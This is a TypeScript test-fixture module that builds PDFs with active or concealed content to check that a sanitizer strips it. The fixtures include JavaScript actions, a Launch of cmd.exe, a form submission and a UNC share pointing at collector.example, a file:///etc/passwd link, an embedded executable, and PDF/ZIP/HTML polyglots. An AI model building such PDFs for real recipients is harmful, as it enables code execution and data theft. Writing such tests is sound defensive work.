import { deflateSync } from 'node:zlib'
import { asPdf, emptyZip, objectStream, pdf, pdfStream, type SentFile } from './files.ts'

const script = '/S /JavaScript /JS (app.alert(1))'
/** On the page, with more objects behind it: from number 5 on. */
const annotated = (annotation: string, ...more: (string | Buffer)[]) =>
  asPdf(pdf([`<< /Type /Annot /Rect [0 0 99 99] ${annotation} >>`, ...more], '', '/Annots [4 0 R] '))
const linked = (action: string) => annotated(`/Subtype /Link /A << ${action} >>`)
const program = pdfStream('/Type /EmbeddedFile', 'MZ')
const attachment = '<< /Type /Filespec /F (a.exe) /EF << /F 6 0 R >> >>'
const drawn = (stream: Buffer, ...more: (string | Buffer)[]) =>
  asPdf(pdf([stream, ...more], '', '/Resources << /XObject << /X 4 0 R >> >> '))
const behind = (rest: Buffer) => asPdf(Buffer.concat([pdf(), rest]))

/** PDFs that do something, or carry something along. They are stored without that. */
export const activePdfs: Record<string, SentFile> = {
  'a PDF with a script': asPdf(pdf([`<< ${script} >>`], '/OpenAction 4 0 R ')),
  'a PDF whose script has an escaped name': asPdf(pdf(['<< /S /J#61v#61Script /JS (x) >>'], '/Open#41ction 4 0 R ')),
  'a PDF with a script in an object stream': asPdf(pdf([objectStream(`<< ${script} >>`)], '/OpenAction 10 0 R ')),
  'a PDF whose object stream is wrapped twice': asPdf(
    pdf([objectStream(`<< ${script} >>`, '[/ASCIIHexDecode /FlateDecode]')], '/OpenAction 10 0 R '),
  ),
  'a PDF with a script by name': asPdf(pdf([`<< ${script} >>`], '/Names << /JavaScript << /Names [(a) 4 0 R] >> >> ')),
  'a PDF with a script for its page': asPdf(pdf([`<< ${script} >>`], '', '/AA << /O 4 0 R >> ')),
  'a PDF with a script in a field': asPdf(
    pdf(
      [`<< /FT /Tx /T (a) /Subtype /Widget /Rect [0 0 9 9] /AA << /K << ${script} >> >> >>`],
      '/AcroForm << /Fields [4 0 R] >> ',
      '/Annots [4 0 R] ',
    ),
  ),
  'a PDF that opens an address': asPdf(pdf([], '/OpenAction << /S /URI /URI (https://collector.example) >> ')),
  'a PDF that starts a program': linked('/S /Launch /F (cmd.exe)'),
  'a PDF that opens a share': linked('/S /GoToR /F (\\\\\\\\collector.example\\\\share\\\\a.pdf) /D [0 /Fit]'),
  'a PDF that opens a file inside': linked('/S /GoToE /T << /R /C /N (a) >>'),
  'a PDF that follows a thread elsewhere': linked('/S /Thread /F (a.pdf) /D 0'),
  'a PDF with a link to a script': linked('/S /URI /URI (javascript:alert%281%29)'),
  'a PDF with a link to a script behind a blank': linked('/S /URI /URI (\\tjava\\nscript:alert%281%29)'),
  'a PDF with a link to a file': linked('/S /URI /URI (file:///etc/passwd)'),
  'a PDF with a link that continues': linked(`/S /URI /URI (https://a.example) /Next << ${script} >>`),
  'a PDF that sends its form away': linked('/S /SubmitForm /F (https://collector.example)'),
  'a PDF that loads data': linked('/S /ImportData /F (a.fdf)'),
  'a PDF with a program as an attachment': annotated('/Subtype /FileAttachment /FS 5 0 R', attachment, program),
  'a PDF with a file inside': asPdf(
    pdf(['<< /Names [(a) 5 0 R] >>', attachment, program], '/Names << /EmbeddedFiles 4 0 R >> '),
  ),
  'a PDF with a film': annotated('/Subtype /Movie /Movie << /F (a.avi) >>'),
  'a PDF with a sound': annotated('/Subtype /Sound /Sound 5 0 R', pdfStream('/Type /Sound /R 8000', 'x')),
  'a PDF with a screen': annotated('/Subtype /Screen /A << /S /Rendition /OP 0 /R 5 0 R >>', '<< /S /MR >>'),
  'a PDF with rich media': annotated('/Subtype /RichMedia /RichMediaContent << /Assets 5 0 R >>', '<< /Names [] >>'),
  'a PDF with a space to walk in': annotated('/Subtype /3D /3DD 5 0 R', pdfStream('/Type /3D /Subtype /U3D', 'x')),
  'a PDF with a picture from elsewhere': drawn(
    pdfStream('/Type /XObject /Subtype /Image /Width 1 /Height 1 /F (https://collector.example/a) /FFilter []', 'x'),
  ),
  'a PDF with a page from elsewhere': drawn(
    pdfStream('/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Ref << /F (a.pdf) /Page 0 >>', ''),
  ),
  'a PDF with a printer’s program': drawn(pdfStream('/Type /XObject /Subtype /PS', 'showpage')),
  'a form in XML': asPdf(
    pdf(['<< /Fields [6 0 R] /XFA 5 0 R >>', pdfStream('', '<xdp:xdp/>'), '<< /FT /Tx /T (a) >>'], '/AcroForm 4 0 R '),
  ),
  'a PDF with a signature': asPdf(
    pdf(['<< /FT /Sig /T (a) /V << /Type /Sig /Contents <00> >> >>'], '/AcroForm << /Fields [4 0 R] >> '),
  ),
}

/** PDFs that are something else, too, or hide something where no reader looks. That doesn't come along, either. */
export const hidingPdfs: Record<string, SentFile> = {
  'a PDF with an archive behind it': behind(emptyZip),
  'a PDF with a page behind it': behind(Buffer.from('<!doctype html><script>alert(1)</script>')),
  'a PDF with a program behind it': behind(Buffer.alloc(9_000, 'MZ')),
  'a PDF around an archive': asPdf(pdf([pdfStream('', emptyZip, '/ASCIIHexDecode')])),
  'a PDF around a page': asPdf(pdf(['(<html><script>alert(1)</script>)'])),
  'a PDF with a script that nothing leads to': asPdf(pdf([`<< ${script} >>`])),
  'a PDF with a comment where its object begins': asPdf(
    pdf([Buffer.concat([Buffer.from('% obj\n'), objectStream(`<< ${script} >>`)])]),
  ),
  'a PDF whose filter stands elsewhere': asPdf(
    pdf([pdfStream('/Type /ObjStm /N 1 /First 5', '7f', '5 0 R'), '/ASCIIHexDecode']),
  ),
  'a PDF compressed twice': asPdf(
    pdf([pdfStream('', deflateSync(Buffer.alloc(9_000)), '[/FlateDecode /FlateDecode]')]),
  ),
}
